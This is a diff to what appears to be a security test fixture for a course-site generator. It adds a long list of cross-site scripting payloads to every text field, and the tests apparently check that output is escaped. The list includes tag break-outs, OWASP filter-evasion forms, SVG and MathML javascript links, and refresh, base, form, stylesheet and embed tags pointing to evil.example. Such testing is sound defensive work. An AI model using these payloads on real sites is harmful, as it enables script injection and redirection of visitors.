@@ -55,6 +55,42 @@ PAYLOADS: list[str] = [
     "\u0000null and \ufeffBOM <img src=x onerror=window.__xss=1>",
     "&lt;script&gt;window.__xss=1&lt;/script&gt;",
     "`</script>` <!-- and \\<script\\>window.__xss=1\\</script\\>",
+    # Round two: break-outs of the article and the page, and elements that change the page.
+    "</article><script>window.__xss=1</script>",
+    "</div></article></main><script>window.__xss=1</script>",
+    "</body></html><script>window.__xss=1</script>",
+    "<template><script>window.__xss=1</script></template><img src=x onerror=window.__xss=1>",
+    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">",
+    "<!-- unclosed comment <script>window.__xss=1</script>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
+    "<base href=\"https://evil.example/\">",
+    "<form action=\"https://evil.example/\"><button>Send</button></form>",
+    "<style>@import url(https://evil.example/x.css);</style>",
+    "<iframe srcdoc=\"&lt;script&gt;parent.__xss=1&lt;/script&gt;\"></iframe>",
+    "<svg><foreignObject><img src=x onerror=window.__xss=1></foreignObject></svg>",
+    "<svg><a xlink:href=\"javascript:window.__xss=1\"><text x=20 y=20>svg link</text></a></svg>",
+    "<math><maction actiontype=statusline xlink:href=javascript:window.__xss=1>math</maction></math>",
+    "<math><mi xlink:href=\"javascript:window.__xss=1\">x</mi></math>",
+    "<svg></p><style><a id=\"</style><img src=x onerror=window.__xss=1>\">",
+    # OWASP filter-evasion forms.
+    "<IMG SRC=\"jav&#x09;ascript:window.__xss=1\">",
+    "<IMG SRC=javascript:window.__xss=1>",
+    "<IMG \"\"\"><SCRIPT>window.__xss=1</SCRIPT>\"\\>",
+    "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>",
+    "<BODY onload=window.__xss=1>",
+    "<<SCRIPT>window.__xss=1;//\\<</SCRIPT>",
+    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:window.__xss=1\">",
+    "<LINK REL=\"stylesheet\" HREF=\"https://evil.example/x.css\">",
+    "<TABLE BACKGROUND=\"javascript:window.__xss=1\">",
+    "<DIV STYLE=\"background-image: url(javascript:window.__xss=1)\">",
+    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.__xss=1\">entity link</a>",
+    "<a href=\"  javascript:window.__xss=1\">spaced link</a>",
+    "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x.html\"></object>",
+    "<embed src=\"https://evil.example/x.swf\">",
+    "<video><source onerror=\"window.__xss=1\"></video>",
+    "<audio src=x onerror=window.__xss=1>",
+    "<details open ontoggle=\"window.__xss=1\"><summary>s</summary></details>",
+    "<img src=\"https://evil.example/beacon.gif\" alt=\"beacon\">",
 ]
 """Each string is one payload; together they are placed in every text field."""
 
@@ -85,13 +121,28 @@ class _Counter:
         self.fields += 1
         return _q(label + "\n\n" + "\n\n".join(PAYLOADS))
 
+    def body(self, label: str) -> str:
+        """Every payload for a trusted body, except `<meta http-equiv="refresh">`, which `check`
+        refuses in a body (an error, tested on its own)."""
+        self.fields += 1
+        return _q(label + "\n\n" + "\n\n".join(p for p in PAYLOADS if "refresh" not in p))
+
+
+def strings_block(n: "_Counter") -> str:
+    """A `strings:` override for every UI string key, each carrying a payload."""
+    from generator.core.languages import load_strings
+
+    # Each keeps its English text first, so the browser tests still find buttons by their names.
+    english = load_strings("en", {})
+    return "strings:\n" + "".join(f"  {k}: {n(english[k])}\n" for k in sorted(english))
+
 
 def course_files() -> tuple[dict[str, str], int]:
     """The XSS course as {path: text} and the number of text fields that carry payloads."""
     n = _Counter()
     manifest = f"""\
 title: {n("Course")}
-description: A course whose every field is hostile. Only this trusted description is clean.
+description: {n.body("Description")}
 authors:
   - name: {n("Author")}
     role: {n("Role")}
@@ -104,7 +155,7 @@ references:
     text: {n("Reference")}
     url: https://example.org/a(b)"c'<d>
     note: {n("Note")}
-"""
+""" + strings_block(n)
     lesson = f"""\
 id: xss
 slug: xss-lesson
@@ -119,10 +170,10 @@ objectives:
 sections:
   - id: s1
     title: {n("Section title")}
-    body: A clean body (lesson bodies are trusted Markdown and `check` warns about script in them).
+    body: A clean body; the next section's body carries every payload.
   - id: s2
     title: {n("Second section")}
-    body: Another clean body.
+    body: {n.body("Section body")}
 key_terms:
   - term: {n("Term")}
     definition: {n.all("Definition")}
@@ -143,6 +194,8 @@ assessments:
     title: {n("Placement title")}
     after: s1
   - bank: xss-sc
+    after: s1  # both quizzes come before the hostile body: in the export (raw bodies) its unclosed
+               # elements would otherwise hide what follows
 """
     options = "\n".join(
         f"""\
@@ -241,7 +294,7 @@ resources: true
 sections:
   - id: p1
     title: {n("Page section")}
-    body: A clean page body.
+    body: {n.body("Page body")}
 """
     resources = f"""\
 last_verified: 2099-01-01
@@ -253,8 +306,8 @@ groups:
         url: https://example.org/x)"onmouseover="window.__xss=1
         description: {n("Description")}
 """
-    mkdocs = """\
-site_name: XSS fixture
+    mkdocs = f"""\
+site_name: {n("Site name")}
 docs_dir: docs
 theme:
   name: material
